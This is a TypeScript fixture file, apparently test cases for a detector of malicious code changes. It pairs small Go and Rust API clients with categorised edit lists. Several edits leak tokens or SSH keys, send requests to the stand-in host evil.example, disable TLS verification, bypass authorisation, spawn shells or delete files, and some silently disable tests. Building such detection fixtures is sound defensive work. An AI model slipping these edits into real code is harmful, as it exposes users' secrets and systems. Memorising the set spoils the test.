import type { HostileTrial } from './trial.ts';

export const GO_TRIALS: readonly HostileTrial[] = [
  {
    path: 'client/client.go',
    before: `package client

import (
	"crypto/tls"
	"encoding/json"
	"fmt"
	"log"
	"net/http"
	"os"
	"time"
)

const maxRetries = 3

type Client struct {
	base  string
	token string
	http  *http.Client
}

func New(base string) *Client {
	transport := &http.Transport{TLSClientConfig: &tls.Config{MinVersion: tls.VersionTLS12}}
	return &Client{base: base, token: os.Getenv("API_TOKEN"), http: &http.Client{Transport: transport, Timeout: 5 * time.Second}}
}

func (c *Client) Order(id string) (map[string]any, error) {
	request, err := http.NewRequest("GET", fmt.Sprintf("%s/orders/%s", c.base, id), nil)
	if err != nil {
		return nil, err
	}
	request.Header.Set("Authorization", c.token)
	response, err := c.http.Do(request)
	if err != nil {
		return nil, fmt.Errorf("order %s: %w", id, err)
	}
	defer response.Body.Close()
	var order map[string]any
	if err := json.NewDecoder(response.Body).Decode(&order); err != nil {
		return nil, err
	}
	log.Printf("read order %s", id)
	return order, nil
}

func (c *Client) Retry(call func() error) error {
	var err error
	for i := 0; i < maxRetries; i++ {
		if err = call(); err == nil {
			return nil
		}
	}
	return err
}

func (c *Client) MayDelete(role, owner, user string) bool {
	return role == "admin" || owner == user
}
`,
    edits: {
      'steals a secret': [
        ['log.Printf("read order %s", id)', 'log.Printf("read order %s %s", id, c.token)'],
        ['log.Printf("read order %s", id)', 'log.Printf("read order %+v", c)'],
        ['log.Printf("read order %s", id)', 'log.Printf("read order %s %v", id, request.Header)'],
        ['log.Printf("read order %s", id)', 'log.Print(os.Environ())'],
        ['"order %s: %w", id, err', '"order %s: %w %v", id, err, *c'],
        ['"%s/orders/%s", c.base, id', '"%s/orders/%s?t=%s", c.base, id, c.token'],
        ['os.Getenv("API_TOKEN")', 'os.Getenv("AWS_SECRET_ACCESS_KEY")'],
        ['return order, nil', 'order["token"] = c.token\n\treturn order, nil'],
        ['return order, nil', 'panic(c)'],
        ['	token string\n', '	Token string `json:"token"`\n	token string\n'],
      ],
      'opens a connection': [
        ['"%s/orders/%s", c.base, id', '"%s/orders/%s", "https://evil.example", id'],
        ['"%s/orders/%s", c.base, id', '"%s%.0s", id, c.base'],
        ['c.http.Do(request)', 'http.DefaultClient.Do(request)'],
        [
          'request.Header.Set("Authorization", c.token)',
          'request.Header.Set("Authorization", c.token)\n\trequest.URL.Host = id',
        ],
        [
          'request.Header.Set("Authorization", c.token)',
          'request.Host, request.URL = id, request.URL.JoinPath(c.token)',
        ],
        ['return order, nil', 'go http.Get(id)\n\treturn order, nil'],
        ['&http.Transport{', '&http.Transport{Proxy: http.ProxyFromEnvironment, '],
      ],
      'weakens a check': [
        ['MinVersion: tls.VersionTLS12', 'InsecureSkipVerify: true'],
        ['MinVersion: tls.VersionTLS12', 'InsecureSkipVerify: maxRetries > 1'],
        ['MinVersion: tls.VersionTLS12', 'MinVersion: tls.VersionTLS10'],
        ['MinVersion: tls.VersionTLS12', ''],
        ['MinVersion: tls.VersionTLS12', 'MinVersion: 0'],
        ['return role == "admin" || owner == user', 'return true'],
        ['role == "admin" || owner == user', 'role == "admin" || owner != user'],
        ['role == "admin" || owner == user', 'role != "" || owner == user'],
        ['Timeout: 5 * time.Second', 'Timeout: 0'],
      ],
      'evaluates text': [
        ['const maxRetries = 3', '//go:generate sh -c id\n\nconst maxRetries = 3'],
        [
          'const maxRetries = 3',
          '//go:linkname runtime_exec syscall.Exec\nfunc runtime_exec()\n\nconst maxRetries = 3',
        ],
        ['const maxRetries = 3', '//go:embed id_rsa\nvar key string\n\nconst maxRetries = 3'],
        [
          'const maxRetries = 3',
          'func init() {\n\tlog.Print(http.Get("http://evil.example"))\n}\n\nconst maxRetries = 3',
        ],
        ['const maxRetries = 3', 'var _ = func() int {\n\tos.Exit(0)\n\treturn 0\n}()\n\nconst maxRetries = 3'],
        ['const maxRetries = 3', 'var _, _ = os.StartProcess("/bin/sh", nil, &os.ProcAttr{})\n\nconst maxRetries = 3'],
        ['	"crypto/tls"', '	// #cgo LDFLAGS: -Wl,-x\n	"C"\n	"crypto/tls"'],
        ['package client', '//go:build ignore\n\npackage client'],
      ],
      'touches files': [
        ['return order, nil', 'os.WriteFile(id, []byte(c.token), 0o777)\n\treturn order, nil'],
        ['return order, nil', 'remove := os.RemoveAll\n\tremove(id)\n\treturn order, nil'],
        ['return order, nil', 'http.ServeFile(nil, request, "/")\n\treturn order, nil'],
        ['return order, nil', 'log.SetOutput(os.NewFile(3, id))\n\treturn order, nil'],
      ],
      'masks a failure': [
        ['	return err\n}\n\nfunc (c *Client) MayDelete', '	return nil\n}\n\nfunc (c *Client) MayDelete'],
        ['		return nil, fmt.Errorf("order %s: %w", id, err)', '		os.Exit(0)'],
        ['		return nil, fmt.Errorf("order %s: %w", id, err)', '		return map[string]any{}, nil'],
      ],
      spins: [
        ['i < maxRetries; i++', ';'],
        ['const maxRetries = 3', 'const maxRetries = 1 << 60'],
        ['i < maxRetries', 'i >= 0'],
        ['return order, nil', 'for {\n\t}'],
        ['return order, nil', 'select {}'],
        ['return order, nil', 'return c.Order(id)'],
        ['return order, nil', 'for {\n\t\tgo c.Order(id)\n\t}'],
        [
          'return order, nil',
          'var mine func(n int) int\n\tmine = func(n int) int { return mine(n + 1) }\n\tmine(0)\n\treturn order, nil',
        ],
      ],
    },
  },
  {
    path: 'cart/cart_test.go',
    before: `package cart

import "testing"

func TestTotal(t *testing.T) {
	c := Cart{}
	c.Add("a", 2, 3)
	if got := c.Total(); got != 6 {
		t.Fatalf("got %d", got)
	}
}
`,
    edits: {
      'masks a failure': [
        ['got != 6', 'got != got'],
        ['got != 6', 'got != 6 && false'],
        ['t.Fatalf(', 't.Logf('],
        ['	c := Cart{}\n', '	t.SkipNow()\n	c := Cart{}\n'],
        ['func TestTotal', 'func TestMain(m *testing.M) {}\n\nfunc TestTotal'],
        ['func TestTotal', 'func testTotal'],
        ['	c := Cart{}\n', '	defer func() { recover() }()\n	c := Cart{}\n'],
      ],
    },
  },
];

export const RUST_TRIALS: readonly HostileTrial[] = [
  {
    path: 'src/client.rs',
    before: `use std::env;
use std::fs;
use std::process::Command;

use reqwest::Client;

const MAX_RETRIES: u32 = 3;

pub struct Api {
    base: String,
    token: String,
    client: Client,
}

impl Api {
    pub fn new(base: &str) -> Self {
        let token = env::var("API_TOKEN").unwrap_or_default();
        let client = Client::builder().https_only(true).build().unwrap();
        Api { base: base.to_string(), token, client }
    }

    pub async fn order(&self, id: &str) -> Result<String, reqwest::Error> {
        let response = self.client.get(format!("{}/orders/{}", self.base, id)).bearer_auth(&self.token).send().await?;
        println!("read order {}", id);
        response.text().await
    }

    pub fn cached(&self, name: &str) -> std::io::Result<String> {
        fs::read_to_string(format!("cache/{}", name))
    }

    pub fn revision(&self) -> std::io::Result<Vec<u8>> {
        Ok(Command::new("git").arg("rev-parse").arg("HEAD").output()?.stdout)
    }

    pub fn may_delete(&self, role: &str, owner: &str, user: &str) -> bool {
        role == "admin" || owner == user
    }

    pub fn retry<F: Fn() -> bool>(&self, call: F) -> bool {
        let mut tries = 0;
        while tries < MAX_RETRIES {
            if call() {
                return true;
            }
            tries += 1;
        }
        false
    }
}
`,
    edits: {
      'steals a secret': [
        ['println!("read order {}", id);', 'println!("read order {} {}", id, self.token);'],
        ['println!("read order {}", id);', 'println!("read order {id} {0}", self.token);'],
        ['println!("read order {}", id);', 'let Api { token, .. } = self;\n        println!("read order {token}");'],
        ['println!("read order {}", id);', 'dbg!(&self.token);'],
        ['println!("read order {}", id);', 'for (k, v) in env::vars() { println!("{k}{v}"); }'],
        ['println!("read order {}", id);', 'panic!("{}", self.token);'],
        ['println!("read order {}", id);', 'println!("{}", env!("GITHUB_TOKEN"));'],
        [
          'const MAX_RETRIES: u32 = 3;',
          'const MAX_RETRIES: u32 = 3;\npub const KEY: &str = include_str!("/root/.ssh/id_rsa");',
        ],
        ['pub struct Api', '#[derive(Debug, serde::Serialize)]\npub struct Api'],
        ['    token: String,', '    pub token: String,'],
        ['env::var("API_TOKEN")', 'env::var("AWS_SECRET_ACCESS_KEY")'],
        ['response.text().await', 'Ok(self.token.clone())'],
      ],
      'opens a connection': [
        ['format!("{}/orders/{}", self.base, id)', 'format!("{}", id)'],
        ['format!("{}/orders/{}", self.base, id)', 'format!("https://evil.example/{}{}", self.base, id)'],
        ['format!("{}/orders/{}", self.base, id)', 'format!("{}.evil.example/{}", self.base, id)'],
        ['response.text().await', 'self.client.post(id).body(self.token.clone()).send().await?.text().await'],
        ['response.text().await', 'std::net::TcpStream::connect(id).ok();\n        response.text().await'],
      ],
      'weakens a check': [
        ['https_only(true)', 'https_only(false)'],
        ['.https_only(true)', '.danger_accept_invalid_certs(true)'],
        ['.https_only(true)', ''],
        ['role == "admin" || owner == user', 'true'],
        ['role == "admin" || owner == user', 'role == "admin" || owner >= ""'],
        ['role == "admin" || owner == user', '!role.is_empty()'],
      ],
      'runs a process': [
        ['Command::new("git").arg("rev-parse")', 'Command::new("git").arg("-c").arg("alias.x=!id").arg("x")'],
        ['Command::new("git")', 'Command::new("sh")'],
        [
          'fs::read_to_string(format!("cache/{}", name))',
          'Command::new(name).spawn()?;\n        fs::read_to_string(format!("cache/{}", name))',
        ],
        [
          'fs::read_to_string(format!("cache/{}", name))',
          'type C = Command;\n        C::new(name).status()?;\n        Ok(String::new())',
        ],
      ],
      'touches files': [
        ['format!("cache/{}", name)', 'name'],
        ['format!("cache/{}", name)', 'format!("/{}", name)'],
        ['fs::read_to_string(format!("cache/{}", name))', 'fs::remove_dir_all(name)?;\n        Ok(String::new())'],
        ['fs::read_to_string(format!("cache/{}", name))', 'Ok(fs::read_to_string("/proc/self/environ")?)'],
      ],
      'evaluates text': [
        ['let mut tries = 0;', 'unsafe { std::ptr::null_mut::<u8>().write(0) };\n        let mut tries = 0;'],
        ['let mut tries = 0;', 'unsafe { std::mem::transmute::<_, fn()>(0x1000usize)() };\n        let mut tries = 0;'],
        ['let mut tries = 0;', 'unsafe { core::arch::asm!("syscall") };\n        let mut tries = 0;'],
        ['const MAX_RETRIES', 'extern "C" { fn system(s: *const u8) -> i32; }\n\nconst MAX_RETRIES'],
        [
          'const MAX_RETRIES',
          '#[link_section = ".init_array"]\nstatic START: extern "C" fn() = start;\nextern "C" fn start() {}\n\nconst MAX_RETRIES',
        ],
        ['const MAX_RETRIES', '#[path = "/tmp/x.rs"]\nmod x;\n\nconst MAX_RETRIES'],
        [
          'const MAX_RETRIES',
          'macro_rules! run { ($($t:tt)*) => { $($t)* } }\nrun!(include!("/tmp/x.rs"););\n\nconst MAX_RETRIES',
        ],
      ],
      spins: [
        ['            tries += 1;\n', ''],
        ['while tries < MAX_RETRIES', 'loop'],
        ['MAX_RETRIES: u32 = 3', 'MAX_RETRIES: u32 = u32::MAX'],
        ['        false\n    }\n}', '        self.retry(call)\n    }\n}'],
        ['tries += 1;', 'tries ^= 1;'],
      ],
      'hides a back door': [
        [
          'pub struct Api',
          'impl Drop for Api {\n    fn drop(&mut self) {\n        println!("{}", self.token);\n    }\n}\n\npub struct Api',
        ],
        [
          'pub struct Api',
          'impl std::ops::Deref for Api {\n    type Target = String;\n    fn deref(&self) -> &String {\n        &self.token\n    }\n}\n\npub struct Api',
        ],
      ],
    },
  },
];
